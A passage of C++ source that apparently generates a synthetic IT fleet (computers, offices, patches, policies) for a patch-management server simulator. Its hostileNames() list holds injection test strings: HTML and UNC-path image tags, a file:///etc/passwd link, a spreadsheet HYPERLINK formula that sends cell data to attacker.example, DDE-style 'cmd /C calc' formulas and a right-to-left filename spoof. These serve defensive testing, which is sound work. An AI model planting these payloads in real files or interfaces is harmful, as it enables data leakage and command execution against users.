#include "FleetGenerator.h"

#include "PatchReleases.h"
#include "SeedHash.h"
#include "SimClock.h"

#include <QDate>
#include <QDateTime>
#include <QSet>
#include <QTimeZone>

#include <algorithm>

namespace pmp::sim {

using namespace fleet;

namespace {

// Hardware models; the index is Computer::model (FleetState::macAddress uses the same order for OUIs).
enum Model
{
    HpElitebook,
    DellLatitude,
    LenovoThinkpad,
    AppleMacbook,
    VmwareVm,
    HyperVVm,
    HpProliant
};

const QStringList firstNames{
    QStringLiteral("Aarav"),  QStringLiteral("Priya"),  QStringLiteral("Liam"),    QStringLiteral("Olivia"),
    QStringLiteral("Noah"),   QStringLiteral("Emma"),   QStringLiteral("Wei"),     QStringLiteral("Mei"),
    QStringLiteral("Lukas"),  QStringLiteral("Sofia"),  QStringLiteral("Mateo"),   QStringLiteral("Isabella"),
    QStringLiteral("Arjun"),  QStringLiteral("Ananya"), QStringLiteral("Kenji"),   QStringLiteral("Yuki"),
    QStringLiteral("Omar"),   QStringLiteral("Fatima"), QStringLiteral("Ethan"),   QStringLiteral("Ava"),
    QStringLiteral("Lucas"),  QStringLiteral("Mia"),    QStringLiteral("Hiroshi"), QStringLiteral("Chloe"),
    QStringLiteral("Daniel"), QStringLiteral("Grace"),  QStringLiteral("Rahul"),   QStringLiteral("Divya"),
    QStringLiteral("Jonas"),  QStringLiteral("Lena"),   QStringLiteral("Carlos"),  QStringLiteral("Elena"),
    QStringLiteral("Samuel"), QStringLiteral("Zoe"),    QStringLiteral("Ravi"),    QStringLiteral("Kavya"),
    QStringLiteral("Thomas"), QStringLiteral("Anna"),   QStringLiteral("Felix"),   QStringLiteral("Nora")};
const QStringList lastNames{
    QStringLiteral("Shah"),    QStringLiteral("Kumar"),  QStringLiteral("Smith"),    QStringLiteral("Johnson"),
    QStringLiteral("Chen"),    QStringLiteral("Wang"),   QStringLiteral("Mueller"),  QStringLiteral("Garcia"),
    QStringLiteral("Rossi"),   QStringLiteral("Tanaka"), QStringLiteral("Sato"),     QStringLiteral("Khan"),
    QStringLiteral("Ali"),     QStringLiteral("Brown"),  QStringLiteral("Davis"),    QStringLiteral("Martin"),
    QStringLiteral("Dubois"),  QStringLiteral("Nair"),   QStringLiteral("Iyer"),     QStringLiteral("Schmidt"),
    QStringLiteral("Fischer"), QStringLiteral("Lopez"),  QStringLiteral("Silva"),    QStringLiteral("Kim"),
    QStringLiteral("Park"),    QStringLiteral("Nguyen"), QStringLiteral("Okafor"),   QStringLiteral("Mensah"),
    QStringLiteral("Wilson"),  QStringLiteral("Taylor"), QStringLiteral("Anderson"), QStringLiteral("Moore"),
    QStringLiteral("Jackson"), QStringLiteral("White"),  QStringLiteral("Harris"),   QStringLiteral("Clark"),
    QStringLiteral("Lewis"),   QStringLiteral("Walker"), QStringLiteral("Reddy"),    QStringLiteral("Haddad")};

} // namespace

FleetGenerator::FleetGenerator(FleetState &fleet) : m_fleet(fleet), m_rng(fleet.seed()) {}

void FleetGenerator::generate(FleetState &fleet, int computers, int patches, bool hostileNames)
{
    FleetGenerator g(fleet);
    g.makeCatalogues();
    g.makeOffices();
    g.makeGroups();
    g.makePolicies();
    g.makeComputers(std::max(0, computers));
    g.makePatches(std::max(0, patches));
    g.makeConfigurations();
    g.makeApdTasks();
    if (hostileNames)
        g.giveHostileNames();
    fleet.finishGeneration();
}

QStringList FleetGenerator::hostileNames()
{
    return {
        QStringLiteral("<b>x</b>bold"),
        QStringLiteral("<img src=/dev/zero>zero"),
        QStringLiteral("<img src=\"\\\\attacker.example\\share\\x.png\">unc"),
        QStringLiteral("<a href=\"file:///etc/passwd\">link</a>"),
        QStringLiteral("=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")"),
        QStringLiteral("+cmd|' /C calc'!A0"),
        QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0"),
        QStringLiteral("<long>") + QString(9994, QLatin1Char('W')),
        QStringLiteral("\u202Eexe.tnemucod\u202C-rtl"),
        QStringLiteral("\u0645\u062E\u062F\u0645-\u0627\u0644\u0645\u062D\u0627\u0633\u0628\u0629 &amp; <i>"),
        QStringLiteral("tab\tand\rcr\nnewline"),
    };
}

// Renames a spread of things after generation (ids and relations unchanged): every seventh computer,
// every fifth patch's description and every ninth vendor, one office, group, policy, configuration and
// APD task. Names stay unique where the server looks things up by name.
void FleetGenerator::giveHostileNames()
{
    const QStringList names = hostileNames();
    const auto pick = [&names](int i) { return names.at(i % names.size()); };
    for (int c = 3, n = 0; c < m_fleet.m_computers.size(); c += 7, ++n)
        m_fleet.m_computers[c].name = pick(n) + QStringLiteral("-%1").arg(c);
    for (int p = 2, n = 0; p < m_fleet.m_patches.size(); p += 5, ++n) {
        m_fleet.m_patches[p].description = pick(n);
        if (n % 2 == 0)
            m_fleet.m_patches[p].vendor = pick(n + 1);
    }
    if (m_fleet.m_offices.size() > 1)
        m_fleet.m_offices[1].name = pick(0) + QStringLiteral(" office");
    if (m_fleet.m_groups.size() > 1)
        m_fleet.m_groups[1].name = pick(1) + QStringLiteral(" group");
    if (m_fleet.m_policies.size() > 1)
        m_fleet.m_policies[1].name = pick(4) + QStringLiteral(" policy");
    if (!m_fleet.m_configs.isEmpty())
        m_fleet.m_configs[0].name = pick(0) + QStringLiteral(" configuration");
    if (!m_fleet.m_apdTasks.isEmpty())
        m_fleet.m_apdTasks[0].name = pick(3) + QStringLiteral(" task");
    if (m_fleet.m_apdTasks.size() > 1)
        m_fleet.m_apdTasks[1].name = pick(7) + QStringLiteral(" task"); // 10,000 characters
}

void FleetGenerator::makeCatalogues()
{
    FleetState &f = m_fleet;
    f.m_osFamilies = {QStringLiteral("win11"),    QStringLiteral("win10"),    QStringLiteral("srv2022"),
                      QStringLiteral("srv2019"),  QStringLiteral("srv2016"),  QStringLiteral("srv2012r2"),
                      QStringLiteral("mac15"),    QStringLiteral("mac14"),    QStringLiteral("mac13"),
                      QStringLiteral("ubuntu24"), QStringLiteral("ubuntu22"), QStringLiteral("rhel9"),
                      QStringLiteral("rhel8"),    QStringLiteral("debian12")};
    auto os = [](int platform, const char *name, const char *version, const char *sp, int family, bool server,
                 int weight) {
        return OsProfile{
            platform, QString::fromUtf8(name), QString::fromUtf8(version), QString::fromUtf8(sp), family, server,
            weight};
    };
    f.m_osProfiles = {
        os(1, "Windows 11 Professional Edition (x64)", "10.0.26100", "Windows 11 Version 24H2 (x64)", Win11, false, 30),
        os(1, "Windows 11 Enterprise Edition (x64)", "10.0.22631", "Windows 11 Version 23H2 (x64)", Win11, false, 14),
        os(1, "Windows 10 Professional Edition (x64)", "10.0.19045", "Windows 10 Version 22H2 (x64)", Win10, false, 16),
        os(1, "Windows 10 Enterprise Edition (x64)", "10.0.19045", "Windows 10 Version 22H2 (x64)", Win10, false, 7),
        os(1, "Windows Server 2022 Standard Edition (x64)", "10.0.20348", "Windows Server 2022 (x64)", Srv2022, true,
           5),
        os(1, "Windows Server 2019 Datacenter Edition (x64)", "10.0.17763", "Windows Server 2019 (x64)", Srv2019, true,
           4),
        os(1, "Windows Server 2016 Standard Edition (x64)", "10.0.14393", "Windows Server 2016 (x64)", Srv2016, true,
           2),
        os(1, "Windows Server 2012 R2 Standard Edition (x64)", "6.3.9600", "Windows Server 2012 R2 Gold (x64)",
           Srv2012R2, true, 1),
        os(2, "macOS Sequoia", "15.6.1", "macOS 15.6.1", Mac15, false, 7),
        os(2, "macOS Sonoma", "14.7.8", "macOS 14.7.8", Mac14, false, 3),
        os(2, "macOS Ventura", "13.7.8", "macOS 13.7.8", Mac13, false, 1),
        os(3, "Ubuntu 24.04.3 LTS", "24.04", "Ubuntu 24.04.3 LTS (x64)", Ubuntu24, true, 4),
        os(3, "Ubuntu 22.04.5 LTS", "22.04", "Ubuntu 22.04.5 LTS (x64)", Ubuntu22, true, 3),
        os(3, "Red Hat Enterprise Linux 9.6", "9.6", "Red Hat Enterprise Linux 9.6 (x64)", Rhel9, true, 2),
        os(3, "Red Hat Enterprise Linux 8.10", "8.10", "Red Hat Enterprise Linux 8.10 (x64)", Rhel8, true, 1),
        os(3, "Debian GNU/Linux 12 (bookworm)", "12.12", "Debian 12.12 (x64)", Debian12, true, 1),
    };

    // Installed software whose patches only apply where it is installed (share on workstations, servers).
    auto t = [](const char *key, int platform, double share, double serverShare = -1, bool hardware = false) {
        return SoftwareTitle{QString::fromLatin1(key), platform, share, serverShare, hardware};
    };
    f.m_titles = {
        t("office2016", 1, 0.25, 0.02),
        t("m365apps", 1, 0.55, 0.02),
        t("sqlserver", 1, 0.0, 0.3),
        t("vcredist", 1, 0.9, 0.8),
        t("edge", 1, 1.0, 0.9),
        t("teams", 1, 0.7, 0.05),
        t("chrome", 1, 0.8, 0.15),
        t("firefox", 1, 0.35, 0.05),
        t("firefox-esr", 1, 0.08, 0.02),
        t("acrobat", 1, 0.6, 0.1),
        t("java8", 1, 0.2, 0.25),
        t("7zip", 1, 0.5, 0.4),
        t("notepadpp", 1, 0.3, 0.35),
        t("zoom", 1, 0.45, 0.0),
        t("vlc", 1, 0.3, 0.0),
        t("putty", 1, 0.12, 0.4),
        t("winscp", 1, 0.1, 0.3),
        t("filezilla", 1, 0.08, 0.1),
        t("git", 1, 0.18, 0.1),
        t("python", 1, 0.15, 0.2),
        t("nodejs", 1, 0.1, 0.15),
        t("keepass", 1, 0.1, 0.05),
        t("wireshark", 1, 0.05, 0.1),
        t("teamviewer", 1, 0.1, 0.05),
        t("slack", 1, 0.3, 0.0),
        t("citrix", 1, 0.1, 0.0),
        t("bandizip", 1, 0.05, 0.0),
        t("intel-graphics", 1, 0.45, 0.0),
        t("realtek-audio", 1, 0.5, 0.0),
        t("chrome-mac", 2, 0.85),
        t("firefox-mac", 2, 0.3),
        t("zoom-mac", 2, 0.6),
        t("office-mac", 2, 0.6),
        t("slack-mac", 2, 0.5),
        t("nginx", 3, 0.0, 0.3),
        t("postgresql", 3, 0.0, 0.2),
        t("chrome-linux", 3, 0.0, 0.03),
        t("bios-hp-840g10", 1, 0, 0, true),
        t("bios-dell-5440", 1, 0, 0, true),
        t("bios-lenovo-t14g4", 1, 0, 0, true),
        t("rom-hpe-dl380", 1, 0, 0, true),
    };
    Q_ASSERT(f.m_titles.size() <= 64);
    for (int i = 0; i < f.m_titles.size(); ++i)
        m_titleIndex.insert(f.m_titles.at(i).key, i);

    f.m_domains = {QStringLiteral("ZYLKER"), QStringLiteral("ZYLKERDEV"), QStringLiteral("WORKGROUP"),
                   QStringLiteral("macosgroup"), QStringLiteral("ZYLKERLAB")};
    f.m_domainDns = {QStringLiteral("zylker.com"), QStringLiteral("dev.zylker.com"), QString(), QString(),
                     QStringLiteral("lab.zylker.com")};
    f.m_hardwareModels = {
        QStringLiteral("HP EliteBook 840 G10"),      QStringLiteral("Dell Latitude 5440"),
        QStringLiteral("Lenovo ThinkPad T14 Gen 4"), QStringLiteral("Apple MacBook Pro"),
        QStringLiteral("VMware Virtual Platform"),   QStringLiteral("Microsoft Hyper-V Virtual Machine"),
        QStringLiteral("HPE ProLiant DL380 Gen10")};
    for (const QString &first : firstNames)
        for (const QString &last : lastNames)
            f.m_people.append(first + QLatin1Char(' ') + last);
}

void FleetGenerator::makeOffices()
{
    struct Spec
    {
        int id;
        const char *name, *site;
        int share, octet;
        bool ds, proxy;
        const char *dsName;
        int dsStatus;
        int utcOffset;
    };
    const Spec specs[] = {
        {1, "Local Office", "HQ", 38, 10, false, false, "", 22, -300},
        {301, "London Branch", "LON", 14, 20, true, false, "lon-ds01", 22, 0},
        {302, "Singapore DS", "SGP", 12, 30, true, true, "sgp-ds01", 22, 480},
        {303, "Austin Remote", "AUS", 10, 40, false, true, "", 22, -360},
        {304, "Frankfurt DS", "FRA", 10, 50, true, false, "fra-ds01", 29, 60},
        {305, "Chennai Office", "CHN", 12, 60, true, false, "chn-ds01", 22, 330},
        {306, "Direct Comm", "REM", 4, 70, false, false, "", 22, 0},
    };
    qint64 dsResource = 201;
    for (const Spec &s : specs) {
        RemoteOffice o;
        o.id = s.id;
        o.name = QString::fromLatin1(s.name);
        o.site = QString::fromLatin1(s.site);
        o.description = s.id == 1 ? QStringLiteral("--") : QStringLiteral("%1 site").arg(o.name);
        o.ipSecondOctet = s.octet;
        o.computerShare = s.share;
        o.utcOffsetMinutes = s.utcOffset;
        o.hasDistributionServer = s.ds;
        o.isProxy = s.proxy;
        o.isHttps = true;
        o.compression = m_rng.chance(0.7) ? 1 : 0;
        o.colorQuality = QList<int>{24, 16, 8, 4}.at(m_rng.weighted({2, 5, 2, 1}));
        o.policyId = s.ds ? 1 + m_rng.bounded(2) : 1;
        o.policyName = QStringLiteral("Policy_%1").arg(o.policyId);
        o.updatedMs = R - qint64(m_rng.between(20, 400)) * DayMs - qint64(m_rng.bounded(86400)) * 1000;
        if (s.ds) {
            o.dsResourceId = dsResource++;
            o.dsName = QString::fromLatin1(s.dsName);
            o.dsDnsName = o.dsName + QStringLiteral(".zylker.com");
            o.dsIp = QStringLiteral("10.%1.0.2").arg(s.octet); // computers start at .4 (FleetState::ipAddress)
            o.dsVersion = QStringLiteral("11.4.2522.01");
            o.dsStatus = s.dsStatus;
            o.dsSyncStatus = s.dsStatus == 22 ? 1 : 2;
            o.lastContactMs = s.dsStatus == 22 ? R - qint64(m_rng.between(1, 40)) * 60 * 1000 : -1;
        } else {
            o.dsName = o.dsDnsName = o.dsIp = o.dsVersion = QStringLiteral("--");
            o.dsStatus = 21;
            o.dsSyncStatus = 0;
        }
        if (s.proxy) {
            o.proxyServer = QStringLiteral("proxy.%1.zylker.com").arg(o.site.toLower());
            o.proxyPort = 3128;
            o.proxyUser = QStringLiteral("svc-proxy");
        } else {
            o.proxyServer = o.proxyUser = QStringLiteral("--");
            o.proxyPort = 0;
        }
        if (s.dsStatus == 29) {
            o.errorCode = 60006;
            o.remarks = QStringLiteral("[i18n]dc.som.agentinstall.remarks.unknown_credential[/i18n]");
            o.errorKbUrl = QStringLiteral("$(dcUrl)/agent_installation_logon_failure.html?");
        } else {
            o.errorCode = 0;
            o.remarks = s.ds ? QStringLiteral("dc.som.ds.install.success") : QStringLiteral("--");
            o.errorKbUrl = QStringLiteral("--");
        }
        m_fleet.m_offices.append(o);
    }
}

void FleetGenerator::makeGroups()
{
    struct Spec
    {
        qint64 id;
        const char *name;
        CustomGroup::Kind kind;
        const char *category;
    };
    using K = CustomGroup::Kind;
    const Spec specs[] = {
        {301, "All Computers Group", K::AllComputers, "CRITERIA_GROUP"},
        {302, "All Users Group", K::AllUsers, "CRITERIA_GROUP"},
        {501, "Finance Workstations", K::Computers, "STATIC_GROUP"},
        {502, "Engineering Laptops", K::Computers, "STATIC_GROUP"},
        {503, "Production Servers", K::Computers, "STATIC_GROUP"},
        {504, "Domain Controllers", K::Computers, "STATIC_GROUP"},
        {505, "Pilot Ring", K::Computers, "STATIC_GROUP"},
        {506, "Executives", K::Computers, "STATIC_GROUP"},
        {507, "Mac Fleet", K::Computers, "CRITERIA_GROUP"},
        {508, "Linux Servers", K::Computers, "CRITERIA_GROUP"},
        {509, "Inactive_Computers_ZYLKER", K::Computers, "CRITERIA_GROUP"},
        {510, "Kiosk PCs", K::Computers, "STATIC_GROUP"},
        {511, "Inactive_Users_ZYLKER", K::Users, "CRITERIA_GROUP"},
        {512, "Helpdesk Staff", K::Users, "STATIC_GROUP"},
    };
    int nextBit = 0;
    for (const Spec &s : specs) {
        CustomGroup g;
        g.id = s.id;
        g.name = QString::fromLatin1(s.name);
        g.kind = s.kind;
        g.category = QString::fromLatin1(s.category);
        g.resourceType = (s.kind == K::AllUsers || s.kind == K::Users) ? QStringLiteral("102") : QStringLiteral("101");
        g.createdMs = R - qint64(m_rng.between(60, 900)) * DayMs - qint64(m_rng.bounded(86400000));
        if (s.kind == K::Computers) {
            g.bit = nextBit++;
            m_groupBit.insert(g.name, g.bit);
        }
        m_fleet.m_groups.append(g);
    }
}

void FleetGenerator::makePolicies()
{
    // The two names the guide's APD samples use, plus what an admin team typically builds.
    const char *names[] = {"Deploy any time at the earliest",
                           "Force reboot excluding servers",
                           "Deploy during business hours",
                           "Weekend maintenance window",
                           "Servers - Sunday 02:00",
                           "Pilot ring - immediate",
                           "Workstations - after hours",
                           "Critical updates - 24h deadline",
                           "No reboot (servers)",
                           "Laptops - on wake",
                           "Patch Tuesday + 7 days",
                           "Emergency zero-day"};
    qint64 custom = 8101;
    int i = 0;
    for (const char *name : names) {
        DeploymentPolicy p;
        // Built-in templates have small ids (the guide's samples send DeploymentPolicyTemplateID 1).
        p.templateId = i < 3 ? i + 1 : custom;
        if (i >= 3)
            custom += 1 + m_rng.bounded(4);
        p.name = QString::fromLatin1(name);
        p.owner = i < 3 ? QStringLiteral("DC-SYSTEM-USER") : QStringLiteral("admin");
        p.createdMs = R - qint64(m_rng.between(30, 1000)) * DayMs - qint64(m_rng.bounded(86400000));
        p.modifiedMs = p.createdMs + (m_rng.chance(0.5) ? qint64(m_rng.between(1, 20)) * DayMs : 0);
        p.isDefault = i == 0;
        m_fleet.m_policies.append(p);
        ++i;
    }
}

void FleetGenerator::makeComputers(int count)
{
    FleetState &f = m_fleet;
    QList<int> osWeights, officeWeights;
    for (const OsProfile &os : f.m_osProfiles)
        osWeights << os.weight;
    for (const RemoteOffice &o : f.m_offices)
        officeWeights << o.computerShare;

    const QStringList depts{QStringLiteral("FIN"), QStringLiteral("ENG"), QStringLiteral("HR"),  QStringLiteral("SAL"),
                            QStringLiteral("MKT"), QStringLiteral("OPS"), QStringLiteral("EXE"), QStringLiteral("IT"),
                            QStringLiteral("SUP"), QStringLiteral("LEG")};
    const QList<int> deptWeights{8, 22, 5, 14, 7, 12, 2, 8, 18, 4};
    const QStringList winRoles{QStringLiteral("DC"),  QStringLiteral("FS"),  QStringLiteral("SQL"),
                               QStringLiteral("WEB"), QStringLiteral("APP"), QStringLiteral("EXCH"),
                               QStringLiteral("PRN"), QStringLiteral("BKP")};
    const QStringList linuxRoles{QStringLiteral("web"),      QStringLiteral("db"),        QStringLiteral("app"),
                                 QStringLiteral("k8s-node"), QStringLiteral("ci-runner"), QStringLiteral("mon"),
                                 QStringLiteral("cache"),    QStringLiteral("mq")};
    const QStringList envs{QStringLiteral("prod"), QStringLiteral("stg"), QStringLiteral("dev")};
    const QStringList macKinds{QStringLiteral("MacBook-Pro"), QStringLiteral("MacBook-Air"), QStringLiteral("iMac")};

    QHash<QString, int> counters;
    QSet<QString> used;
    auto unique = [&](const QString &base) {
        QString name = base;
        for (int n = 2; used.contains(name.toLower()); ++n)
            name = base + QStringLiteral("-%1").arg(n);
        used.insert(name.toLower());
        return name;
    };
    auto next = [&](const QString &prefix) { return ++counters[prefix]; };

    f.m_computers.reserve(count);
    for (int i = 0; i < count; ++i) {
        Computer c;
        c.id = 1001 + i;
        c.os = m_rng.weighted(osWeights);
        const OsProfile &os = f.m_osProfiles.at(c.os);
        c.office = m_rng.weighted(officeWeights);
        const RemoteOffice &office = f.m_offices.at(c.office);
        c.user = m_rng.bounded(int(f.m_people.size()));
        QString dept, role, env;
        bool laptop = false;

        if (os.platform == 1 && !os.server) {
            dept = depts.at(m_rng.weighted(deptWeights));
            laptop = m_rng.chance(0.35);
            const QString prefix =
                laptop ? QString(office.site + QStringLiteral("-LT")) : QString(office.site + QLatin1Char('-') + dept);
            c.name = unique(laptop ? QStringLiteral("%1-%2").arg(prefix).arg(next(prefix), 4, 10, QLatin1Char('0'))
                                   : QStringLiteral("%1%2").arg(prefix).arg(next(prefix), 3, 10, QLatin1Char('0')));
            c.model = QList<int>{HpElitebook, DellLatitude, LenovoThinkpad}.at(m_rng.weighted({4, 4, 3}));
            c.domain = dept == QLatin1String("ENG") && m_rng.chance(0.4) ? 1 : (m_rng.chance(0.04) ? 2 : 0);
        } else if (os.platform == 1) {
            role = winRoles.at(m_rng.weighted({2, 3, 3, 3, 4, 1, 1, 1}));
            const QString prefix = office.site + QLatin1Char('-') + role;
            c.name = unique(QStringLiteral("%1%2").arg(prefix).arg(next(prefix), 2, 10, QLatin1Char('0')));
            c.model = QList<int>{VmwareVm, HyperVVm, HpProliant}.at(m_rng.weighted({5, 2, 3}));
            c.domain = 0;
        } else if (os.platform == 2) {
            const QStringList person = f.m_people.at(c.user).split(QLatin1Char(' '));
            c.name = unique(QStringLiteral("%1-%2s-%3")
                                .arg(person.at(0), person.at(1).left(1), macKinds.at(m_rng.weighted({6, 3, 1}))));
            c.model = AppleMacbook;
            c.domain = 3;
            dept = depts.at(m_rng.weighted(deptWeights));
        } else {
            role = linuxRoles.at(m_rng.bounded(int(linuxRoles.size())));
            env = envs.at(m_rng.weighted({5, 2, 2}));
            const QString prefix = role + QLatin1Char('-') + env;
            c.name = unique(QStringLiteral("%1-%2").arg(prefix).arg(next(prefix), 2, 10, QLatin1Char('0')));
            c.model = QList<int>{VmwareVm, HpProliant}.at(m_rng.weighted({7, 3}));
            c.domain = m_rng.chance(0.6) ? 4 : 2;
        }

        // Installed software: shares differ between servers and workstations; firmware follows the model.
        for (int t = 0; t < f.m_titles.size(); ++t) {
            const SoftwareTitle &title = f.m_titles.at(t);
            if (title.platform != os.platform)
                continue;
            bool present = false;
            if (title.hardware) {
                static const QHash<QString, int> firmwareModel{{QStringLiteral("bios-hp-840g10"), HpElitebook},
                                                               {QStringLiteral("bios-dell-5440"), DellLatitude},
                                                               {QStringLiteral("bios-lenovo-t14g4"), LenovoThinkpad},
                                                               {QStringLiteral("rom-hpe-dl380"), HpProliant}};
                present = firmwareModel.value(title.key, -1) == c.model;
            } else {
                const double share = os.server && title.serverShare >= 0 ? title.serverShare : title.share;
                present = m_rng.chance(share);
            }
            if (present)
                c.titles |= quint64(1) << t;
        }

        // Patch hygiene: well-run machines, ordinary ones, and a neglected tail.
        c.hygiene = QList<double>{0.004, 0.05, 0.22}.at(m_rng.weighted({40, 45, 15}));

        // Agent life cycle.
        c.installationStatus = QList<int>{22, 21, 29, 23, 24, 31}.at(m_rng.weighted({900, 35, 15, 20, 5, 5}));
        c.agentVersion = m_rng.weighted({60, 25, 10, 5});
        c.agentInstalledMs = R - qint64(m_rng.between(20, 900)) * DayMs - qint64(m_rng.bounded(86400000));
        c.agentExecutedMs = c.agentInstalledMs - qint64(m_rng.between(1, 30)) * 60 * 1000;
        if (c.agentVersion > 0)
            c.agentUpgradedMs = -1;
        else if (m_rng.chance(0.6))
            c.agentUpgradedMs = R - qint64(m_rng.between(2, 40)) * DayMs;
        const bool everInstalled = c.installationStatus != 21 && c.installationStatus != 29;
        if (everInstalled) {
            // Last contact spread over the E34 buckets.
            const int bucket = m_rng.weighted({78, 8, 6, 4, 4});
            const int lo[] = {0, 3, 7, 15, 30};
            const int hi[] = {3, 7, 15, 30, 120};
            qint64 ago = qint64(lo[bucket]) * DayMs + qint64(m_rng.real() * double((hi[bucket] - lo[bucket]) * DayMs));
            if (bucket == 0 && m_rng.chance(0.8))
                ago = qint64(m_rng.real() * 2.0 * double(HourMs)); // agents report every 90 minutes
            c.lastContactMs = R - std::max<qint64>(ago, 60 * 1000);
            if (c.installationStatus == 23) {
                c.agentUninstalledMs = c.lastContactMs + qint64(m_rng.between(1, 48)) * HourMs;
                c.previousInstallationStatus = 22;
            }
            c.lastBootMs = c.lastContactMs - qint64(m_rng.real() * double(os.server ? 40 : 6) * double(DayMs));
            c.liveStatus = (c.installationStatus != 23 && R - c.lastContactMs < DayMs) ? 1 : 2;
            if (m_rng.chance(0.02))
                c.liveStatus = 3;
            c.scanStatus = QList<int>{228, 226, 227, 229}.at(m_rng.weighted({86, 7, 2, 5}));
            if (c.scanStatus != 229) {
                c.lastScanMs = c.lastContactMs - qint64(m_rng.bounded(6 * 3600)) * 1000;
                c.lastSuccessfulScanMs =
                    c.scanStatus == 228 ? c.lastScanMs : c.lastScanMs - qint64(m_rng.between(1, 9)) * DayMs;
                c.lastSyncMs = c.lastScanMs + qint64(m_rng.between(20, 600)) * 1000;
                c.lastPatchedMs = c.lastSuccessfulScanMs - qint64(m_rng.real() * 12.0 * double(DayMs));
            }
            c.statusUpdateMs = c.lastContactMs - qint64(m_rng.bounded(3600)) * 1000;
            c.managedStatus = R - c.lastContactMs > 30 * DayMs ? 68 : 61;
        } else {
            c.lastContactMs = -1;
            c.lastBootMs = -1;
            c.liveStatus = 3;
            c.scanStatus = 229;
            c.agentInstalledMs = -1;
            c.agentExecutedMs = c.installationStatus == 29 ? R - qint64(m_rng.between(1, 60)) * DayMs : -1;
            c.statusUpdateMs = R - qint64(m_rng.between(1, 90)) * DayMs;
            c.managedStatus = 61;
        }
        c.baselineScanMs = c.lastSuccessfulScanMs;

        // Custom groups.
        auto join = [&](const char *group) { c.groups |= quint64(1) << m_groupBit.value(QString::fromLatin1(group)); };
        if (dept == QLatin1String("FIN") && os.platform == 1)
            join("Finance Workstations");
        if (dept == QLatin1String("ENG") && laptop)
            join("Engineering Laptops");
        if (dept == QLatin1String("EXE"))
            join("Executives");
        if ((os.platform == 1 && os.server) || env == QLatin1String("prod"))
            join("Production Servers");
        if (role == QLatin1String("DC"))
            join("Domain Controllers");
        if (m_rng.chance(0.05))
            join("Pilot Ring");
        if (os.platform == 2)
            join("Mac Fleet");
        if (os.platform == 3)
            join("Linux Servers");
        if (everInstalled && R - c.lastContactMs > 30 * DayMs)
            join("Inactive_Computers_ZYLKER");
        if (dept == QLatin1String("SUP") && !laptop && m_rng.chance(0.08))
            join("Kiosk PCs");

        f.m_computers.append(c);
    }
}

void FleetGenerator::makePatches(int count)
{
    // Months of releases, newest first, until there are enough.
    QList<Draft> drafts;
    KbNumbers kbs;
    const QDate newestMonth(2026, 10, 1);
    for (int m = 0; drafts.size() < count && m < 2400; ++m)
        PatchMonth(m_rng, kbs, m, newestMonth, drafts).addAll();

    // Keep the newest `count`, then number them oldest first (patch ids grow over time).
    std::stable_sort(drafts.begin(), drafts.end(),
                     [](const Draft &a, const Draft &b) { return a.releasedMs > b.releasedMs; });
    if (drafts.size() > count)
        drafts.resize(count);
    std::reverse(drafts.begin(), drafts.end());

    FleetState &f = m_fleet;
    qint64 id = 300001;
    qint64 location = 3632425;
    QHash<QString, int> lastOfSeries;
    f.m_patches.reserve(drafts.size());
    for (const Draft &d : drafts) {
        Patch p;
        p.id = id;
        id += 1 + m_rng.bounded(23);
        p.name = d.name;
        p.description = d.description;
        p.vendor = d.vendor;
        p.bulletinId = d.bulletin;
        p.kbNumber = d.kb;
        p.sqNumber = d.sqNumber.isEmpty() ? d.kb : d.sqNumber;
        p.platform = d.platform;
        p.updateType = d.type;
        p.severity = d.severity;
        p.size = d.size;
        p.releasedMs = std::min(d.releasedMs, R - 6 * HourMs);
        p.supportedMs = std::min(p.releasedMs + qint64(m_rng.between(2, 40)) * HourMs, R - HourMs);
        p.updatedMs = p.supportedMs + qint64(m_rng.bounded(6 * 3600)) * 1000;
        p.reboot = d.reboot;
        p.uninstallable = d.uninstallable;
        p.title = d.title.isEmpty() ? -1 : title(d.title);
        p.familyMask = d.families;
        p.updateId = int(d.type);
        p.patchType = d.type == UpdateType::Bios ? 12 : (d.type == UpdateType::ThirdParty ? 2 : 0);
        p.language = d.vendor == QLatin1String("Microsoft") && d.type != UpdateType::ThirdParty ? 1 : 0;
        for (int i = 0; i < d.cves; ++i) {
            const int year = QDateTime::fromMSecsSinceEpoch(p.releasedMs, QTimeZone::utc()).date().year();
            p.cves << QStringLiteral("CVE-%1-%2").arg(year).arg(m_rng.between(20000, 59999));
        }
        const double ageDays = double(R - p.releasedMs) / double(DayMs);
        p.downloaded = ageDays > 2 ? m_rng.chance(0.85) : m_rng.chance(0.3);
        if (p.downloaded) {
            p.downloadedMs = p.supportedMs + qint64(m_rng.between(1, 30)) * HourMs;
            p.locationId = location++;
        }
        // Manual approval: most older patches approved, fresh ones waiting, a few declined.
        const double roll = m_rng.real();
        if (roll < 0.02 && p.platform != 3) {
            p.approval = 212;
            PatchDecline decline;
            decline.groupIds = {301};
            decline.reasonId = 1 + m_rng.bounded(5);
            decline.remarks = QStringLiteral("Declined during %1 review")
                                  .arg(QDateTime::fromMSecsSinceEpoch(p.supportedMs, QTimeZone::utc())
                                           .toString(QStringLiteral("MMMM yyyy")));
            decline.declinedMs = p.supportedMs + DayMs;
            p.declines << decline;
            p.approvedBy = QStringLiteral("admin");
            p.approvalMs = decline.declinedMs;
        } else if (ageDays > 7 ? roll < 0.88 : roll < 0.25) {
            p.approval = 211;
            p.approvedBy = m_rng.chance(0.7) ? QStringLiteral("DC-SYSTEM-USER") : QStringLiteral("admin");
            p.approvalMs = p.supportedMs + qint64(m_rng.between(1, 72)) * HourMs;
        } else {
            p.approval = 0;
            p.approvedBy = QStringLiteral("--");
        }
        if (p.approvalMs > p.updatedMs)
            p.updatedMs = std::min(p.approvalMs, R - 60 * 1000);
        const int index = int(f.m_patches.size());
        const auto previous = lastOfSeries.constFind(d.series);
        if (previous != lastOfSeries.constEnd())
            f.m_patches[*previous].supersededBy = p.id;
        lastOfSeries.insert(d.series, index);
        f.m_patches.append(p);
    }
}

void FleetGenerator::makeConfigurations()
{
    FleetState &f = m_fleet;
    if (f.m_computers.isEmpty())
        return;
    using S = DeploymentConfig::Status;
    const QList<S> statuses{S::Deployed,  S::Executed,        S::InProgress, S::Draft, S::DraftDownloadFailed,
                            S::Suspended, S::RetryInProgress, S::Expired};
    const QList<int> weights{40, 25, 6, 8, 4, 5, 5, 7};
    const int count = 28;
    for (int i = 0; i < count; ++i) {
        DeploymentConfig c;
        c.configId = 151 + qint64(i) * 7;
        c.collectionId = 23708 + qint64(i) * 13;
        c.configDataId = 38717 + qint64(i) * 11;
        c.status = statuses.at(m_rng.weighted(weights));
        c.createdMs = R - qint64(count - i) * 3 * DayMs - qint64(m_rng.bounded(86400)) * 1000;
